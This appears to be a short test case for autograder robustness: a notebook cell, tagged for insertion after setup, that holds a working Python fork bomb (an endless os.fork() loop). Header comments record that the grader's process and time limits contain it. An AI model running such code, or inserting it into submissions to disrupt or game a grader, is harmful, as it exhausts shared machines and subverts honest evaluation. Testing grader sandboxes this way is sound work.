# A fork bomb: the process limit stops it, the time limit ends it, the rest is graded.
# honest: topological_sort
# beats nbgrader: no
# %% insert after: setup
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
